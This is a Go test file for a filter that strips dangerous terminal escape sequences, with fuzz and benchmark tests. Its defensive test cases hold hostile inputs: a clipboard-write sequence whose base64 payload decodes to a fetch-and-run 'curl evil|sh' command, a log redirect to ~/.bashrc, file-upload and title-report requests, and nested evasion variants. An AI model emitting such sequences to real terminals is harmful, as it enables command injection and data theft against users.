package termfilter

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"
)

// run filters in, split into writes of at most chunk bytes (0: one
// write), and returns the output and the kinds dropped.
func run(t testing.TB, in []byte, chunk int) ([]byte, []Kind) {
	var out bytes.Buffer
	var kinds []Kind
	f := New(&out, func(k Kind) { kinds = append(kinds, k) })
	for len(in) > 0 {
		n := len(in)
		if chunk > 0 && n > chunk {
			n = chunk
		}
		if _, err := f.Write(in[:n]); err != nil {
			t.Fatal(err)
		}
		in = in[n:]
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes(), kinds
}

const (
	esc = "\x1b"
	bel = "\x07"
	st  = "\x1b\\"
)

// What Claude Code and other full-screen tools write passes byte for
// byte, in every split.
func TestPassesTerminalUse(t *testing.T) {
	cases := []string{
		"plain text\r\n",
		"héllo ❝quoted❞ ─│┌ 🚀 \U0001F9E0 日本語",
		esc + "]0;✳ Claude Code" + bel,
		esc + "]2;title" + st,
		esc + "]1;icon" + bel,
		esc + "]8;id=1;https://example.com/a?b=c" + st + "link" + esc + "]8;;" + st,
		esc + "]9;4;1;50" + bel + esc + "]9;4;0" + bel,
		esc + "]9;notification" + bel + esc + "]777;notify;t;b" + bel,
		esc + "]133;A" + st + esc + "]133;B" + st + esc + "]133;D;0" + st,
		esc + "]7;file://host/home/u" + st,
		esc + "]11;?" + bel + esc + "]10;?" + st + esc + "]4;1;?" + bel,
		esc + "]104" + bel + esc + "]110" + st,
		esc + "[38;2;10;20;30m" + esc + "[1;4m" + esc + "[0m",
		esc + "[H" + esc + "[2J" + esc + "[12;40H" + esc + "[3A" + esc + "[K",
		esc + "[?2004h" + esc + "[?2004l",
		esc + "[?1049h" + esc + "[?1049l",
		esc + "[?1000h" + esc + "[?1006h" + esc + "[?1003l",
		esc + "[?2026h" + "frame" + esc + "[?2026l",
		esc + "[?25l" + esc + "[?25h" + esc + "[?u" + esc + "[>1u" + esc + "[<u",
		esc + "[c" + esc + "[>c" + esc + "[6n" + esc + "[?6n" + esc + "[5n",
		esc + "[18t" + esc + "[14t" + esc + "[22;0t" + esc + "[23;0t" + esc + "[>4;2m",
		esc + "[?2026$p" + esc + "[>q" + esc + "[?996n",
		esc + "P+q544e" + st,                  // XTGETTCAP
		esc + "P=1s" + st + esc + "P=2s" + st, // synchronized update
		esc + "Pq#0;2;0;0;0#0~~@@vv" + st,     // sixel
		esc + "_Ga=T,f=100;iVBORw0KGgo=" + st, // kitty graphics (APC)
		esc + "(B" + esc + ")0" + esc + "%G" + esc + "7" + esc + "8" + esc + "=" + esc + ">",
		esc + "M" + esc + "D" + esc + "c" + "\x0e\x0f\t\b\a",
		"\xc2\xa0nbsp \xc2\x85 \xc3\xa9",
		"\x18\x1a",
	}
	for _, c := range cases {
		for _, chunk := range []int{0, 1, 2, 3, 7} {
			got, kinds := run(t, []byte(c), chunk)
			if !bytes.Equal(got, []byte(c)) || len(kinds) != 0 {
				t.Errorf("chunk %d: %q became %q (dropped %v)", chunk, c, got, kinds)
			}
		}
	}
}

// The sequences that act outside the screen are dropped whole, with their
// payload and terminator, and what surrounds them passes.
func TestDrops(t *testing.T) {
	cases := []struct {
		seq  string
		kind Kind
	}{
		{esc + "]52;c;Y3VybCBldmlsfHNoCg==" + bel, Clipboard},
		{esc + "]52;c;Y3VybCBldmlsfHNoCg==" + st, Clipboard},
		{esc + "]52;;Y3Vy" + bel, Clipboard},
		{esc + "]52;c;?" + bel, Clipboard},
		{esc + "]052;c;Zm9v" + bel, Clipboard},
		{esc + "]52" + bel, Clipboard},
		{"\x9d52;c;Zm9v\x9c", Clipboard},           // 8-bit OSC and ST
		{"\xc2\x9d52;c;Zm9v\xc2\x9c", Clipboard},   // the same as UTF-8
		{"\xc2\x9d52;c;Zm9v" + bel, Clipboard},     // UTF-8 OSC, BEL
		{esc + "]5522;type=write" + st, Clipboard}, // kitty
		{esc + "[21t", TitleReport},
		{esc + "[20t", TitleReport},
		{esc + "[021;0t", TitleReport},
		{"\x9b21t", TitleReport},
		{esc + "[2\x7f1t", TitleReport},
		{esc + "[2\n1t", TitleReport},
		{esc + "P$qm" + st, SettingsReport},
		{esc + "P$q\"p" + st, SettingsReport},
		{"\x90$qr\x9c", SettingsReport},
		{esc + "]50;?" + bel, Font},
		{esc + "]50;#+1" + st, Font},
		{esc + "]1337;File=name=eA==;inline=0:Zm9v" + bel, TerminalCommand},
		{esc + "]1337;CopyToClipboard=" + bel, TerminalCommand},
		{esc + "]1337;RequestUpload=format=tgz" + bel, TerminalCommand},
		{esc + "]5113;ac=send;id=x" + st, TerminalCommand},
		{esc + "]46;/home/u/.bashrc" + bel, TerminalCommand},
		{esc + "Ptmux;" + esc + esc + "]52;c;Zm9v" + bel + st, DCS},
		{esc + "P1;1|17/636C656172" + st, DCS},
		{esc + "P$t1;1;1;@;@;@;0;2;@;BBBB" + st, DCS},
		{esc + "%@", Charset},
		{esc + "%/G", Charset},
		{esc + "]L;title" + st, Unrecognised},
		{esc + "];x" + bel, Unrecognised},
		{esc + "]1234567;x" + bel, Unrecognised},
		{esc + "[" + strings.Repeat("1;", 40) + "m", Unrecognised},
	}
	for _, c := range cases {
		in := "before" + c.seq + "after"
		for _, chunk := range []int{0, 1, 2, 5} {
			got, kinds := run(t, []byte(in), chunk)
			want := "beforeafter"
			if string(got) != want {
				t.Errorf("chunk %d: %q became %q, want %q", chunk, in, got, want)
			}
			if len(kinds) == 0 || kinds[0] != c.kind {
				t.Errorf("chunk %d: %q dropped as %v, want %v", chunk, in, kinds, c.kind)
			}
		}
	}
}

// A clipboard write hidden in or after a sequence that passes is still
// found: every ESC starts a sequence of its own, in a title as in text.
func TestNested(t *testing.T) {
	cases := map[string]string{
		esc + "]0;title" + esc + "]52;c;Zm9v" + bel + "x":     esc + "]0;title" + "x",
		esc + "]8;;http://a" + esc + "]52;c;Zm9v" + st + "x":  esc + "]8;;http://a" + "x",
		esc + "[1;2" + esc + "]52;c;Zm9v" + bel + "x":         "x",
		esc + "_G" + esc + "]52;c;Zm9v" + bel + st:            esc + "_G" + st,
		esc + "]52;c;Zm9v" + esc + "]0;t" + bel:               esc + "]0;t" + bel,
		esc + "]52;c;Zm9v" + "\x18" + "x":                     "\x18x",
		"\xe2\x9d\x9d" + esc + "]52;c;Zm9v\xe2\x9d\x9d" + bel: "\xe2\x9d\x9d",
		esc + esc + "]52;c;Zm9v" + bel:                        "",
		// A dropped sequence never splices what is around it into
		// one: a lone ESC (or an unfinished ESC sequence) before it
		// is dropped too, or "ESC" + "]52;c;..." would pass.
		esc + esc + "]52;x" + bel + "]52;c;QQ==" + bel:                "]52;c;QQ==" + bel,
		esc + "\x90$qm" + st + "]52;c;QQ==" + bel:                     "]52;c;QQ==" + bel,
		esc + "(" + "\x9b21t" + "]52;c;QQ==" + bel:                    "]52;c;QQ==" + bel,
		esc + "]0" + esc + esc + "]52;c;x" + bel + "]52;c;QQ==" + bel: "]52;c;QQ==" + bel,
		esc + "]0" + esc + "]52" + bel + "52;c;QQ==" + bel:            "52;c;QQ==" + bel,
		esc + "]52;x" + esc + esc + "]0;t" + bel + "y" + st + "z":     "y" + st + "z",
		esc + "]0;a\x9d52;c;Zm9v" + bel + "z":                         esc + "]0;a" + "z",
		esc + "[?" + esc + "[21t" + "y":                               "y",
		"\x9b" + "\x9d" + "52;c;x" + bel:                              "",
		"\xc2" + esc + "]52;c;x" + bel:                                "\xc2",
		esc + "P" + esc + "]52;x" + bel + "q":                         "q",
		esc + "]52;c;x" + st + esc + "]2;ok" + st:                     esc + "]2;ok" + st,
		"a" + esc + "]52;c;x" + esc + "[31m" + "b" + esc + "[0m":      "a" + esc + "[31mb" + esc + "[0m",
	}
	for in, want := range cases {
		for _, chunk := range []int{0, 1, 3} {
			got, _ := run(t, []byte(in), chunk)
			if string(got) != want {
				t.Errorf("chunk %d: %q became %q, want %q", chunk, in, got, want)
			}
		}
	}
}

// A string that never ends is not held: its kind is known from its first
// bytes, so a passed one streams and a dropped one is dropped as it comes.
func TestLongStrings(t *testing.T) {
	title := esc + "]2;" + strings.Repeat("t", 1<<20)
	got, _ := run(t, []byte(title), 4096)
	if string(got) != title {
		t.Errorf("a 1 MiB title: %d bytes out of %d", len(got), len(title))
	}
	clip := esc + "]52;c;" + strings.Repeat("A", 1<<20)
	var out bytes.Buffer
	f := New(&out, nil)
	f.Write([]byte(clip))
	if out.Len() != 0 {
		t.Errorf("an unended OSC 52: %d bytes out", out.Len())
	}
	f.Write([]byte(bel + "after"))
	if out.String() != "after" {
		t.Errorf("after an OSC 52 of 1 MiB: %q", out.String())
	}
	// An unended sequence at the end of the stream is dropped.
	got, _ = run(t, []byte("x"+esc+"[1;2"), 0)
	if string(got) != "x" {
		t.Errorf("an unended CSI at the end: %q", got)
	}
}

func TestKindString(t *testing.T) {
	for k := Kind(0); k < nKinds; k++ {
		if kindNames[k] == "" {
			t.Errorf("kind %d has no name", k)
		}
	}
	if s := fmt.Sprint(Clipboard); !strings.Contains(s, "OSC 52") {
		t.Errorf("Clipboard is %q", s)
	}
}

// dangerous reports whether out holds, by a reading independent of the
// filter's, an OSC 52 (or 50, 1337, 5522, 5113, 46), a title report, a
// DECRQSS or any DCS but those the filter passes.
func dangerous(out []byte) string {
	for i := 0; i < len(out); i++ {
		var rest []byte
		kind := byte(0)
		switch {
		case out[i] == 0x1b && i+1 < len(out):
			kind, rest = out[i+1], out[i+2:]
		case out[i] == 0xc2 && i+1 < len(out) && c1(out[i+1]) != 0:
			kind, rest = c1(out[i+1]), out[i+2:]
		case c1(out[i]) != 0 && (i == 0 || out[i-1] < 0x80):
			kind, rest = c1(out[i]), out[i+1:]
		}
		switch kind {
		case ']':
			n := 0
			j := 0
			for j < len(rest) && rest[j] >= '0' && rest[j] <= '9' && j < 8 {
				n = n*10 + int(rest[j]-'0')
				j++
			}
			if j < len(rest) && rest[j] != ';' && rest[j] != 0x07 && rest[j] != 0x1b && rest[j] != 0x9c {
				return fmt.Sprintf("OSC %q at %d", rest[:j+1], i)
			}
			switch n {
			case 52, 50, 1337, 5522, 5113, 46:
				return fmt.Sprintf("OSC %d at %d", n, i)
			}
		case '[':
			head, j := headOf(rest)
			if j < len(rest) && rest[j] == 't' {
				p := strings.TrimLeft(head, "0")
				if strings.HasPrefix(p, "20") || strings.HasPrefix(p, "21") {
					if len(p) == 2 || p[2] == ';' || p[2] == ':' {
						return fmt.Sprintf("CSI %st at %d", rest[:j], i)
					}
				}
			}
		case 'P':
			head, j := headOf(rest)
			if j < len(rest) {
				// Sixel's parameters are numbers.
				head = strings.TrimLeft(head, "0123456789;:") + string(rest[j])
				if head != "q" && head != "+q" && !(strings.HasPrefix(head, "=") && rest[j] == 's') {
					return fmt.Sprintf("DCS %q at %d", head, i)
				}
			}
		}
	}
	return ""
}

func FuzzFilter(f *testing.F) {
	f.Add([]byte(esc+"]52;c;Zm9v"+bel+"text"+esc+"]0;t"+bel), []byte{1, 3})
	f.Add([]byte("\xc2\x9d52;c;x\xc2\x9c"+esc+"[21t"), []byte{2})
	f.Add([]byte(esc+"Ptmux;"+esc+esc+"]52;c;x"+bel+st+"❝🚀"), []byte{4, 1})
	f.Add([]byte(esc+"[?2026h"+esc+"[38;2;1;2;3mhi"+esc+"[?2026l"), []byte{})
	f.Add([]byte(esc+"]8;;http://x"+st+"l"+esc+"]8;;"+st+esc+"P$qm"+st), []byte{9})
	f.Fuzz(func(t *testing.T, in []byte, chunks []byte) {
		whole, _ := run(t, in, 0)
		// Any split gives the same output.
		var out bytes.Buffer
		flt := New(&out, nil)
		rest := in
		for i := 0; len(rest) > 0; i++ {
			n := len(rest)
			if len(chunks) > 0 {
				n = min(n, 1+int(chunks[i%len(chunks)])%16)
			}
			flt.Write(rest[:n])
			rest = rest[n:]
		}
		flt.Close()
		if !bytes.Equal(out.Bytes(), whole) {
			t.Fatalf("%q: split %v gave %q, whole %q", in, chunks, out.Bytes(), whole)
		}
		if d := dangerous(whole); d != "" {
			t.Fatalf("%q became %q, which holds %s", in, whole, d)
		}
		// What passed passes again unchanged: the output holds no
		// sequence the filter would drop. (A CAN at the end cancels
		// what the end of the input cut short, where the first pass
		// may have passed an OSC's head and dropped the unended
		// sequence after it.)
		canceled, _ := run(t, append(in[:len(in):len(in)], 0x18), 0)
		again, kinds := run(t, canceled, 0)
		if !bytes.Equal(again, canceled) || len(kinds) > 0 {
			t.Fatalf("%q became %q, then %q (dropped %v)", in, canceled, again, kinds)
		}
		// Text with no ESC and no 8-bit control passes untouched.
		if !bytes.ContainsAny(in, "\x1b") && !hasC1Byte(in) {
			if !bytes.Equal(whole, in) {
				t.Fatalf("text %q became %q", in, whole)
			}
		}
	})
}

// headOf returns the parameters and intermediates at the start of rest,
// without the C0 controls a terminal executes among them and DEL, which it ignores, and the index
// of the byte after them.
func headOf(rest []byte) (string, int) {
	var head []byte
	j := 0
	for ; j < len(rest) && (rest[j] < 0x40 || rest[j] == 0x7f) && rest[j] != 0x1b && rest[j] != 0x18 && rest[j] != 0x1a; j++ {
		if rest[j] >= 0x20 && rest[j] != 0x7f {
			head = append(head, rest[j])
		}
	}
	return string(head), j
}

// hasC1Byte reports a raw byte in 0x80..0x9f: a UTF-8 continuation or an
// 8-bit control, either of which the filter may have to judge.
func hasC1Byte(b []byte) bool {
	for _, c := range b {
		if c >= 0x80 && c <= 0x9f {
			return true
		}
	}
	return false
}

// BenchmarkFilter is the filter alone on terminal-like text (colours,
// UTF-8, a title and a link now and then), against a plain copy.
func BenchmarkFilter(b *testing.B) {
	var text bytes.Buffer
	for i := 0; text.Len() < 64<<10; i++ {
		text.WriteString(esc + "[32m+" + esc + "[0m some output line ─│ é, text text text text\n")
		if i%50 == 0 {
			text.WriteString(esc + "]0;title" + bel + esc + "]8;;https://example.com" + st + "link" + esc + "]8;;" + st)
		}
	}
	in := text.Bytes()
	for _, mode := range []string{"copy", "filter"} {
		b.Run(mode, func(b *testing.B) {
			var w io.Writer = io.Discard
			if mode == "filter" {
				w = New(io.Discard, nil)
			}
			b.SetBytes(int64(len(in)))
			for i := 0; i < b.N; i++ {
				for off := 0; off < len(in); off += 4096 {
					w.Write(in[off:min(off+4096, len(in))])
				}
			}
		})
	}
}
